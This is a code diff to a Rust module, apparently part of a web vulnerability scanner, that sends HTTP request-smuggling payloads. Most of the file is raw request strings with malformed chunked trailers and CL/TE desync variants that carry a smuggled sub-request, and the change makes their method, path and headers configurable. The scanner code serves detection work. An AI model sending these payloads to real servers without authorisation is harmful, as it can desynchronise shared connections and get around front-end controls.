@@ -1,51 +1,62 @@
-use crate::core::constants::HTTP_USER_AGENT;
+use crate::modules::options::ModuleOptions;
+use crate::modules::smuggle::RawSmuggle;
 use crate::scanner::task::Task;
 use async_trait::async_trait;
-use riphttplib::types::{ClientTimeouts, ProtocolError, Request};
-use riphttplib::{H1, Protocol, parse_target};
-use std::time::Duration;
-use std::thread;
+use riphttplib::parse_target;
+use riphttplib::types::ProtocolError;
 
-const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);
-const IO_TIMEOUT: Duration = Duration::from_secs(10);
+/// Method of the smuggled sub-request unless `--smuggle-method` is given.
+const SMUGGLE_METHOD: &str = "TRACE";
 
-#[derive(Clone, Copy, Default)]
-pub struct TrailSmugTask;
+#[derive(Clone)]
+pub struct TrailSmugTask {
+    options: ModuleOptions,
+}
+
+impl Default for TrailSmugTask {
+    fn default() -> Self {
+        Self::new()
+    }
+}
 
 impl TrailSmugTask {
     pub fn new() -> Self {
-        Self
+        Self::with_options(ModuleOptions::default())
     }
 
-    fn build_baseline_request(
-        target: &str,
-        timeouts: &ClientTimeouts,
-    ) -> Result<Request, ProtocolError> {
-        Ok(Request::new(target, "GET")?
-            .header(&format!("user-agent: {}", HTTP_USER_AGENT))
-            .timeout(timeouts.clone())
-            .follow_redirects(false))
+    pub fn with_options(options: ModuleOptions) -> Self {
+        Self { options }
     }
 
-    fn build_attack_requests(target: &str) -> Result<Vec<String>, ProtocolError> {
+    /// Smuggled sub-requests carry `marker`, when given, as the last segment of their path.
+    fn build_attack_requests(
+        &self,
+        target: &str,
+        marker: Option<&str>,
+    ) -> Result<Vec<String>, ProtocolError> {
+        let smuggle_path = self.options.sub_request_path(target, marker);
         let target = parse_target(target)?;
         let mut payloads = Vec::with_capacity(3);
 
         let path = format!("{}?cb=bbscan&nxoec=kmceo", target.path().to_string());
-        let authority = target.authority().unwrap_or("localhost".to_string());
+        let authority = self.options.authority(target.authority());
+        let user_agent = self.options.user_agent();
+        let correlation = self.options.correlation_line();
+        let smuggle_method = self.options.sub_request_method(SMUGGLE_METHOD);
 
         payloads.push(format!(
             "\
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Transfer-Encoding: chunked\r\n\
             \r\n\
             2\r\n\
             aa\r\n\
             0\r\n\
             any: value\r\n\
-            TRACE /vcmapfqpie/xsqweer?: HTTP/1.1\r\n\
+            {smuggle_method} {smuggle_path}?: HTTP/1.1\r\n\
             X: "
         ));
 
@@ -53,14 +64,15 @@ impl TrailSmugTask {
             "\
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Transfer-Encoding: chunked\r\n\
             \r\n\
             2\r\n\
             aa\r\n\
             0\r\n\
             any: value\n\n\
-            TRACE /vcmapfqpie/xsqweer?: HTTP/1.1\r\n\
+            {smuggle_method} {smuggle_path}?: HTTP/1.1\r\n\
             X: "
         ));
 
@@ -68,20 +80,21 @@ impl TrailSmugTask {
             "\
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Transfer-Encoding: chunked\r\n\
             \r\n\
             2\r\n\
             aa\r\n\
             0\r\n\
             a\r\n\
-            TRACE /vcmapfqpie/xsqweer?: HTTP/1.1\r\n\
+            {smuggle_method} {smuggle_path}?: HTTP/1.1\r\n\
             X: "
         ));
 
         let smug = format!(
             "\
-            TRACE /vcmapfqpie/xsqweer HTTP/1.1\r\n\
+            {smuggle_method} {smuggle_path} HTTP/1.1\r\n\
             X: "
         );
         let len = smug.len();
@@ -91,7 +104,8 @@ impl TrailSmugTask {
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
             Connection: keep-alive\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Transfer-Encoding: chunked\r\n\
             \r\n\
             0\r\n\
@@ -101,7 +115,8 @@ impl TrailSmugTask {
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
             Connection: keep-alive\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Content-Length: {len}\r\n\
             \r\n\
             {smug}"
@@ -112,7 +127,8 @@ impl TrailSmugTask {
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
             Connection: keep-alive\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Transfer-Encoding: chunked\r\n\
             \r\n\
             0\r\n\
@@ -121,7 +137,8 @@ impl TrailSmugTask {
             POST {path} HTTP/1.1\r\n\
             Host: {authority}\r\n\
             Connection: keep-alive\r\n\
-            User-Agent: {HTTP_USER_AGENT}\r\n\
+            User-Agent: {user_agent}\r\n\
+            {correlation}\
             Content-Length: {len}\r\n\
             \r\n\
             {smug}"
@@ -134,7 +151,7 @@ impl TrailSmugTask {
         //     HEAD {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: keep-alive\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Content-Type: application/www-form-urlencoded\r\n\
         //     a\r\n\
@@ -147,7 +164,7 @@ impl TrailSmugTask {
         //     OPTIONS {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: keep-alive\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Content-Type: application/www-form-urlencoded\r\n\
         //     Expect:\r\n\t100-continue\r\n\
@@ -158,7 +175,7 @@ impl TrailSmugTask {
         // payloads.push(format!("\
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Transfer-Encoding: Chunked\r\n\
         //     \r\n\
@@ -170,7 +187,7 @@ impl TrailSmugTask {
         // payloads.push(format!("\
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Transfer-Encoding: Chunked\r\n\
         //     \r\n\
@@ -185,7 +202,7 @@ impl TrailSmugTask {
         //     HEAD {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: keep-alive\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Content-Type: application/www-form-urlencoded\r\n\
         //     Expect:\r\n\t100-continue\r\n\
@@ -198,7 +215,7 @@ impl TrailSmugTask {
         //     OPTIONS {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: keep-alive\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Content-Type: application/www-form-urlencoded\r\n\
         //     Expect:\r\n\t100-continue\r\n\
@@ -212,7 +229,7 @@ impl TrailSmugTask {
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Content-Length: {len}\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Transfer-Encoding: Chunked\r\n\
         //     \r\n\
         //     0\r\n\
@@ -224,7 +241,7 @@ impl TrailSmugTask {
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Content-Length: {len}\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Transfer-Encoding:\r\n\tChunked\r\n\
         //     \r\n\
         //     0\r\n\
@@ -239,7 +256,7 @@ impl TrailSmugTask {
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Content-Type: application/www-form-urlencoded\r\n\
         //     Upgrade:\r\n\th2c,websocket\r\n\
@@ -252,7 +269,7 @@ impl TrailSmugTask {
         //     HEAD {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: keep-alive\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade:\r\n\th2c,websocket\r\n\
         //     \r\n\
@@ -264,7 +281,7 @@ impl TrailSmugTask {
         //     OPTIONS {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade:\r\n\th2c,websocket\r\n\
         //     \r\n\
@@ -278,7 +295,7 @@ impl TrailSmugTask {
         //     GET {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade: h2c,websocket\r\n\
         //     \r\n\
@@ -290,7 +307,7 @@ impl TrailSmugTask {
         //     OPTIONS {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade: h2c,websocket\r\n\
         //     \r\n\
@@ -302,7 +319,7 @@ impl TrailSmugTask {
         //     HEAD {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade: h2c,websocket\r\n\
         //     Expect: 100-continue\r\n\
@@ -315,7 +332,7 @@ impl TrailSmugTask {
         //     OPTIONS {path} HTTP/1.1\r\n\
         //     Host: {authority}\r\n\
         //     Connection: upgrade\r\n\
-        //     User-Agent: {HTTP_USER_AGENT}\r\n\
+        //     User-Agent: {user_agent}\r\n\
         //     Content-Length: {len}\r\n\
         //     Upgrade: h2c,websocket\r\n\
         //     Expect: 100-continue\r\n\
@@ -332,71 +349,10 @@ impl Task for TrailSmugTask {
     type Error = ProtocolError;
 
     async fn execute(&self, target: String) -> Result<String, Self::Error> {
-        let timeouts = ClientTimeouts {
-            connect: Some(CONNECT_TIMEOUT),
-            read: Some(IO_TIMEOUT),
-            write: Some(IO_TIMEOUT),
-        };
-
-        let client = H1::timeouts(timeouts.clone());
-
-        let mut findings = Vec::new();
-        let attacks = match Self::build_attack_requests(&target) {
-            Ok(val) => val,
-            Err(_) => return Ok("".to_string()),
-        };
-
-        // Send baseline request first. skip attacks if it already fails
-        let baseline_res = match client
-            .send_request(Self::build_baseline_request(&target, &timeouts)?)
+        RawSmuggle::new(&self.options, "TrailSmug", SMUGGLE_METHOD)
+            .execute(&target, &|target, marker| {
+                self.build_attack_requests(target, marker)
+            })
             .await
-        {
-            Ok(response) => response,
-            Err(_) => {
-                return Ok(String::new());
-            }
-        };
-
-        if [301, 302, 307, 308, 400, 403, 404, 408, 429, 502, 503, 504].contains(&baseline_res.status) {
-            return Ok("".to_string());
-        }
-
-        let probes = 2;
-
-        for req in &attacks {
-            let mut diff = false;
-            for i in 0..probes {
-                // send attack
-                client.send_raw(&target, req.to_string().into()).await?;
-                // send base and check if there's a difference
-                match client
-                    .send_request(Self::build_baseline_request(&target, &timeouts)?)
-                    .await
-                {
-                    Ok(res) => {
-                        if res.status != baseline_res.status && ![403, 409, 420, 429, 502, 503].contains(&res.status) {
-                            if i != (probes-1) {
-                                diff = true;
-                            } else if diff {
-                                findings.push(format!(
-                                    "[!] {} resp difference: baseline {} curr {} payload {}",
-                                    target, baseline_res.status, res.status, req
-                                ));
-                            } else {
-                                break;
-                            }
-                        } else {
-                            break;
-                        }
-                    }
-                    Err(_) => {
-                        return Ok(findings.join("\n"));
-                    }
-                };
-                thread::sleep(Duration::from_millis(2000));
-            }
-        }
-
-        Ok(findings.join("\n"))
     }
 }